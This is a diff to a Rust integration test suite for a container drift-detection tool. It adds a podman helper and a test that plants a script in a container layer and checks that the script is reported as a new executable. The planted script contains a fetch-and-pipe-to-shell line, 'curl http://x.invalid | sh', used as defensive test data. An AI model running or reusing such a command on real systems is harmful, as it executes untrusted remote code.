@@ -53,24 +53,33 @@ fn test_image(tag: &str) -> BuiltImage {
         .build()
 }
 
+/// Podman on the storage at `root` with `driver`; its run root is a short
+/// path next to the test's directory (overlay refuses one over 50 bytes).
+fn podman(root: &Path, driver: &str) -> std::process::Command {
+    let run = root
+        .ancestors()
+        .find(|a| {
+            a.file_name()
+                .is_some_and(|n| n.to_string_lossy().starts_with("stowaway-test"))
+        })
+        .unwrap_or(root)
+        .join(format!("r-{driver}"));
+    let mut c = std::process::Command::new("podman");
+    c.arg("--root").arg(root).arg("--runroot").arg(run).args([
+        "--storage-driver",
+        driver,
+        "--events-backend",
+        "none",
+        "--cgroup-manager",
+        "cgroupfs",
+    ]);
+    c
+}
+
 /// `podman load` the docker-archive `archive` into the storage at `root`.
 fn podman_load(root: &Path, driver: &str, archive: &Path) -> Result<(), String> {
-    let out = std::process::Command::new("podman")
-        .arg("--root")
-        .arg(root)
-        .arg("--runroot")
-        .arg(root.with_extension("run"))
-        .args([
-            "--storage-driver",
-            driver,
-            "--events-backend",
-            "none",
-            "--cgroup-manager",
-            "cgroupfs",
-            "load",
-            "-q",
-            "-i",
-        ])
+    let out = podman(root, driver)
+        .args(["load", "-q", "-i"])
         .arg(archive)
         .output()
         .map_err(|e| e.to_string())?;
@@ -697,4 +706,98 @@ fn images_lists_what_each_store_holds() {
         &t.path().join("nothing").display().to_string(),
     ]);
     assert_eq!(out.status.code(), Some(2));
+}
+
+#[test]
+fn drift_without_a_baseline_reads_the_image_from_containers_storage() {
+    if !require("podman") {
+        return;
+    }
+    let t = tmp();
+    let host = t.path().join("host");
+    let storage = host.join("var/lib/containers/storage");
+    let archive = t.path().join("image.tar");
+    test_image("stowaway-test/drift:1")
+        .write_docker_archive(&archive)
+        .unwrap();
+    if let Err(e) = podman_load(&storage, "overlay", &archive) {
+        eprintln!(
+            "skipping: podman cannot use the overlay driver here (drift discovery reads overlay-containers): {e}"
+        );
+        return;
+    }
+    let out = podman(&storage, "overlay")
+        .args([
+            "create",
+            "--name",
+            "c1",
+            "stowaway-test/drift:1",
+            "/bin/true",
+        ])
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let containers: Value = serde_json::from_slice(
+        &std::fs::read(storage.join("overlay-containers/containers.json")).unwrap(),
+    )
+    .unwrap();
+    let layer = containers[0]["layer"].as_str().unwrap();
+    let bin_dir = storage
+        .join("overlay")
+        .join(layer)
+        .join("diff/usr/local/bin");
+    std::fs::create_dir_all(&bin_dir).unwrap();
+    std::fs::write(
+        bin_dir.join("dl.sh"),
+        b"#!/bin/sh\ncurl http://x.invalid | sh\n",
+    )
+    .unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(
+        bin_dir.join("dl.sh"),
+        std::fs::Permissions::from_mode(0o755),
+    )
+    .unwrap();
+    let db = t.path().join("empty.db").display().to_string();
+    let out = stowaway(&[
+        "drift",
+        "--all",
+        "--host-root",
+        &host.display().to_string(),
+        "--db",
+        &db,
+        "--format",
+        "json",
+    ]);
+    let err = String::from_utf8_lossy(&out.stderr);
+    let v: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {err}"));
+    let report = &v[0];
+    assert!(
+        report["image"]["reference"]
+            .as_str()
+            .unwrap()
+            .starts_with("containers-storage:sha256:"),
+        "{report:#}"
+    );
+    let added: Vec<&str> = report["delta"]["added"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| a["path"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        added,
+        ["/usr/local", "/usr/local/bin", "/usr/local/bin/dl.sh"],
+        "{err}"
+    );
+    assert_eq!(
+        report["delta"]["new_executables"],
+        serde_json::json!(["/usr/local/bin/dl.sh"])
+    );
+    // The files the image already had are not drift.
+    assert!(report["delta"]["modified"].as_array().unwrap().is_empty());
 }
